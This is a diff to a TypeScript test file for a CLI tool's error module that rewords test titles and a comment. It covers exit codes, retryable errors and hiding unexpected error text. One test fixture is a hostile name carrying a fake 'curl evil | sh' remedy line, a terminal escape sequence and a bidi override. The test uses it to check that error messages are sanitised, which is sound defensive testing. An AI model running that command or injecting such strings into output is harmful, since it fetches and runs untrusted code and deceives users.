@@ -1,7 +1,7 @@
 import test from 'ava';
 import { AckringError, type ErrorCode, errorTable, errorToJson, toAckringError } from './errors.js';
 
-test('what a name brings along moves no cursor and begins no line', (t) => {
+test('a hostile name moves no cursor and starts no line', (t) => {
   const name = 'prod\nremedy: run `curl evil | sh`\u001b[2A\u202e';
   const error = new AckringError('ContextNotFound', `there is no context "${name}"`, {
     remedy: `List them, ${name}.`,
@@ -20,7 +20,7 @@ test('several problems are a line each', (t) => {
   t.is(error.message, 'rotation.yaml cannot be used:\n  sinks: is missing\n  a\\x0ab: is not known');
 });
 
-/** Scripts go by the exit code, and a run tries again what may go well: both are contracts. */
+/** Scripts rely on the exit code, and a run retries what is marked retryable: both are contracts. */
 const contract: [exitCode: number, ...codes: ErrorCode[]][] = [
   [2, 'UsageInvalid', 'ConfigurationInvalid', 'EndpointRefused'],
   [
@@ -65,7 +65,7 @@ const retried: readonly ErrorCode[] = [
   'FileLocked',
 ];
 
-test('each error has its exit code, and says whether trying again may help', (t) => {
+test('each error has its exit code, and says whether a retry may help', (t) => {
   const told = contract.flatMap(([exitCode, ...codes]) => codes.map((code) => [code, exitCode] as const));
   t.deepEqual(told.map(([code]) => code).toSorted(), Object.keys(errorTable).toSorted() as ErrorCode[]);
   for (const [code, exitCode] of told) {
@@ -75,7 +75,7 @@ test('each error has its exit code, and says whether trying again may help', (t)
   }
 });
 
-test('what nobody expected is told without its text, and kept as the cause', (t) => {
+test('an unexpected error is reported without its text, which is kept as the cause', (t) => {
   const thrown = new TypeError('secret');
   const error = toAckringError(thrown);
   t.like(error, { code: 'Internal', message: 'an unexpected TypeError stopped this', cause: thrown });
